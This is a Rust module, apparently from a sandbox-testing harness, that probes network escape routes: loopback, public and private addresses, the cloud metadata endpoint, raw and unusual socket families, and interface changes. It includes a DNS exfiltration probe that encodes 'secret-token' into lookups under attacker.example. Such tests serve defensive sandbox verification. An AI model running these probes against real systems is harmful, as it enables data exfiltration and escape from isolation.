//! Ways out by the network: the host's own sockets, addresses without names, names without permission.

use std::{
    io,
    net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket},
    os::{
        linux::net::SocketAddrExt,
        unix::net::{SocketAddr as UnixAddress, UnixStream},
    },
    time::Duration,
};

use crate::{Attack, Blocked, Canaries, Outcome, Reached, Skipped, call, nested};

pub const ATTACKS: &[Attack] = &[
    ("abstract_socket", abstract_socket),
    ("host_loopback", host_loopback),
    ("ipv4", |_| dial(&["1.1.1.1:443", "8.8.8.8:53", "10.0.0.1:22", "192.168.1.1:80", "172.17.0.1:2375"])),
    ("ipv6", |_| dial(&["[2606:4700:4700::1111]:443", "[fe80::1]:80", "[::ffff:1.1.1.1]:443"])),
    ("metadata", |_| dial(&["169.254.169.254:80", "[fd00:ec2::254]:80"])),
    ("dns_labels", dns_labels),
    ("dns_direct", dns_direct),
    ("interface", interface),
    ("packet_socket", |_| socket(libc::AF_PACKET, libc::SOCK_RAW)),
    ("vsock", |_| socket(libc::AF_VSOCK, libc::SOCK_STREAM)),
    ("kernel_crypto", |_| socket(libc::AF_ALG, libc::SOCK_SEQPACKET)),
    ("can_bus", |_| socket(libc::AF_CAN, libc::SOCK_RAW)),
];

fn abstract_socket(canaries: &Canaries) -> Outcome {
    let Some(name) = canaries.get("abstract") else { return Skipped("no name") };
    Outcome::of(UnixAddress::from_abstract_name(name).and_then(|a| UnixStream::connect_addr(&a)))
}

fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    TcpStream::connect_timeout(&address, Duration::from_secs(2))
}

fn host_loopback(canaries: &Canaries) -> Outcome {
    let Some(port) = canaries.number("port") else { return Skipped("no port") };
    let all = [
        format!("127.0.0.1:{port}"),
        format!("127.1.2.3:{port}"),
        format!("0.0.0.0:{port}"),
        format!("[::1]:{port}"),
    ];
    match all.iter().find(|a| a.parse().is_ok_and(|a| connect(a).is_ok())) {
        Some(address) => Reached(address.clone()),
        None => Blocked("refused".into()),
    }
}

/// Anything but "network is unreachable" means that a packet left.
fn dial(addresses: &[&str]) -> Outcome {
    for text in addresses {
        let Ok(address) = text.parse() else { continue };
        match connect(address) {
            Err(e)
                if matches!(
                    e.raw_os_error(),
                    Some(libc::ENETUNREACH | libc::EADDRNOTAVAIL | libc::EINVAL)
                ) => {}
            Err(e) => return Reached(format!("{text}: {e}")),
            Ok(_) => return Reached((*text).to_owned()),
        }
    }
    Blocked("network is unreachable".into())
}

fn dns_labels(_: &Canaries) -> Outcome {
    for n in 0..200 {
        let name = format!("c2VjcmV0LXRva2Vu{n}.attacker.example:80");
        if let Ok(mut found) = name.to_socket_addrs()
            && let Some(address) = found.next()
        {
            return Reached(format!("{name} is {address}"));
        }
    }
    Blocked("no such domain".into())
}

fn dns_direct(canaries: &Canaries) -> Outcome {
    let Some(port) = canaries.number("udp_port") else { return Skipped("no port") };
    let query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01";
    let answer = UdpSocket::bind("127.0.0.1:0").and_then(|socket| {
        socket.set_read_timeout(Some(Duration::from_millis(300)))?;
        socket.connect(("127.0.0.1", port as u16))?;
        socket.send(query)?;
        let mut buffer = [0; 512];
        socket.recv(&mut buffer)
    });
    Outcome::of(answer)
}

/// Changes an interface of this network namespace.
fn interface(_: &Canaries) -> Outcome {
    let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else { return Skipped("no socket") };
    let mut request = [0u8; 40];
    request[..2].copy_from_slice(b"lo");
    request[16..18].copy_from_slice(&((libc::IFF_UP | libc::IFF_RUNNING) as u16).to_ne_bytes());
    let fd = std::os::fd::AsRawFd::as_raw_fd(&socket) as usize;
    Outcome::of(call(libc::SYS_ioctl, &[fd, libc::SIOCSIFFLAGS as usize, request.as_ptr() as usize]))
}

/// With the rights that a nested network namespace gives, so that only the filter is in the way.
fn socket(family: libc::c_int, kind: libc::c_int) -> Outcome {
    let code =
        nested(libc::CLONE_NEWNET, || match call(libc::SYS_socket, &[family as usize, kind as usize, 0]) {
            Ok(_) => 0,
            Err(e) => e.raw_os_error().unwrap_or(1),
        });
    if code == 0 { Reached("made".into()) } else { Blocked(io::Error::from_raw_os_error(code).to_string()) }
}
